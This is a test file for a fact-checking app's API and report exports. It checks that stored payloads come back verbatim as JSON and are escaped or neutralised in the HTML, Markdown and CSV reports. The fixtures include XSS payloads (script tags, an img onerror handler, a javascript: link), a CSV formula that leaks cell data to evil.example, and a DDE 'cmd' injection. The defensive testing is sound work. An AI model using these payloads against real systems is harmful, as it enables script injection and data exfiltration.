// Stored XSS: script and markup payloads saved in an article (title, text), a claim (text,
// claimant, rationale), a source (address, title, publisher, excerpt) and a note come back from the
// API verbatim, as JSON only (application/json + nosniff), and every report format escapes them:
// no live markup in HTML or Markdown, formula cells neutralised in CSV, exact text in JSON.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestServer, type TestClient, type TestServer } from "../support/test-server.ts";

const SCRIPT = `<script>alert("xss")</script>`;
const IMG = `<img src=x onerror=alert(1)>`;
const BREAKOUT = `</script><script>alert(2)</script><!--`;
const FORMULA = `=HYPERLINK("https://evil.example/?leak="&A1,"click")`;
const PAYLOADS = [SCRIPT, IMG, BREAKOUT];

let server: TestServer;
let editor: TestClient;
let reviewer: TestClient;
const ids = { article: "", claim: "", source: "", note: "" };
const text = {
  title: `Budget ${SCRIPT}`,
  body: `The city spent $4 million on roads in 2023, the mayor said. ${SCRIPT} Crime fell 12 percent in 2024. ${IMG}`,
  claim: `${FORMULA} ${IMG}`,
  claimant: `@SUM(1+1) ${SCRIPT}`,
  rationale: `+cmd|' /C calc'!A0 ${BREAKOUT}`,
  sourceTitle: `-2+3 ${SCRIPT}`,
  publisher: `${IMG} Ministry`,
  excerpt: `${BREAKOUT} ${FORMULA}`,
  sourceUrl: `https://example.org/report?q="><script>alert(3)</script>`,
  note: `${FORMULA}\n\n${SCRIPT} [click](javascript:alert(4)) ${IMG}`,
};

async function expectJson(response: Response) {
  expect(response.headers.get("content-type")).toMatch(/^application\/json/);
  expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  return response.json();
}

beforeAll(async () => {
  server = await startTestServer();
  editor = await server.login("editor");
  reviewer = await server.login("reviewer");
  const article = await editor.request("POST", "/api/articles", { title: text.title, body: text.body, format: "text" });
  expect(article.status).toBe(201);
  ids.article = ((await expectJson(article)) as { id: string }).id;
  const start = text.body.indexOf("Crime");
  const claim = await reviewer.request("POST", `/api/articles/${ids.article}/claims`, {
    start,
    end: start + "Crime fell 12 percent in 2024.".length,
    text: text.claim,
    claimant: text.claimant,
  });
  expect(claim.status).toBe(201);
  const created = (await expectJson(claim)) as { id: string; version: number };
  ids.claim = created.id;
  const source = await reviewer.request("POST", `/api/claims/${ids.claim}/sources`, {
    url: text.sourceUrl,
    title: text.sourceTitle,
    publisher: text.publisher,
    excerpt: text.excerpt,
    stance: "refutes",
  });
  expect(source.status).toBe(201);
  ids.source = ((await expectJson(source)) as { id: string }).id;
  const note = await reviewer.request("POST", `/api/claims/${ids.claim}/notes`, { body: text.note });
  expect(note.status).toBe(201);
  ids.note = ((await expectJson(note)) as { id: string }).id;
  const verdict = await reviewer.request("PUT", `/api/claims/${ids.claim}/verdict`, {
    version: created.version,
    verdict: "false",
    rationale: text.rationale,
  });
  expect(verdict.status).toBe(200);
});
afterAll(() => server?.close());

describe("stored payloads in the API", () => {
  it("come back verbatim in JSON, never as HTML", async () => {
    const article = (await expectJson(await reviewer.request("GET", `/api/articles/${ids.article}`))) as {
      title: string;
      body: string;
    };
    expect(article.title).toBe(text.title);
    expect(article.body).toBe(text.body);
    const claim = (await expectJson(await reviewer.request("GET", `/api/claims/${ids.claim}`))) as {
      text: string;
      claimant: string;
      rationale: string;
      sources: Array<{ url: string; title: string; publisher: string; excerpt: string }>;
      notes: Array<{ body: string }>;
    };
    expect(claim).toMatchObject({ text: text.claim, claimant: text.claimant, rationale: text.rationale });
    expect(claim.sources[0]).toMatchObject({
      url: text.sourceUrl,
      title: text.sourceTitle,
      publisher: text.publisher,
      excerpt: text.excerpt,
    });
    expect(claim.notes[0]!.body).toBe(text.note);
    const list = (await expectJson(await reviewer.request("GET", `/api/articles/${ids.article}/claims`))) as {
      items: Array<{ text: string }>;
    };
    expect(list.items.map((c) => c.text)).toContain(text.claim);
    const history = (await expectJson(await reviewer.request("GET", `/api/claims/${ids.claim}/history`))) as {
      items: unknown[];
    };
    expect(JSON.stringify(history)).toContain(JSON.stringify(text.rationale).slice(1, -1));
  });
});

describe("stored payloads in reports", () => {
  const report = async (format: string) => {
    const response = await editor.request(
      "GET",
      `/api/articles/${ids.article}/report?format=${format}&approvedOnly=false&includeUnreviewed=true&includeNotes=true&dismissed=separate`,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    return { type: response.headers.get("content-type") ?? "", body: await response.text() };
  };

  it("HTML: no payload survives as markup; the only scripts are the JSON-LD block", async () => {
    const { type, body } = await report("html");
    expect(type).toMatch(/^text\/html/);
    for (const payload of PAYLOADS) expect(body).not.toContain(payload);
    expect(body).not.toMatch(/<img[^>]*onerror/i);
    expect(body).not.toMatch(/href="javascript:/i);
    const scripts = body.match(/<script\b[^>]*>/gi) ?? [];
    expect(scripts.every((tag) => tag === `<script type="application/ld+json">`)).toBe(true);
    expect(body.match(/<\/script>/gi)?.length ?? 0).toBe(scripts.length);
    expect(body).toContain("&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;");
  });

  it("Markdown: payloads are escaped, so no renderer sees raw HTML", async () => {
    const { body } = await report("markdown");
    for (const payload of PAYLOADS) expect(body).not.toContain(payload);
    expect(body).not.toMatch(/<(script|img)\b/i);
    // An escaped \\] is a literal bracket, not the end of link text.
    expect(body).not.toMatch(/(?<!\\)\]\(javascript:/i);
  });

  it("CSV: cells that a spreadsheet would run as formulas are neutralised", async () => {
    const { type, body } = await report("csv");
    expect(type).toMatch(/^text\/csv/);
    // Every cell, quoted or not, must not start with = + - @ (RFC 4180 splitting of this simple file).
    const cells = body.replace(/^\uFEFF/, "").match(/("(?:[^"]|"")*"|[^,\r\n]*)(?=,|\r?\n|$)/g) ?? [];
    const values = cells.map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
    expect(values.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
    expect(body).toContain(`'${FORMULA.replace(/"/g, '""')}`);
  });

  it("JSON and ClaimReview: the exact text, in a JSON content type", async () => {
    for (const format of ["json", "claimreview"]) {
      const { type, body } = await report(format);
      expect(type).toMatch(/json/);
      const parsed: unknown = JSON.parse(body);
      expect(JSON.stringify(parsed)).toContain(JSON.stringify(text.claim).slice(1, -1));
    }
  });
});
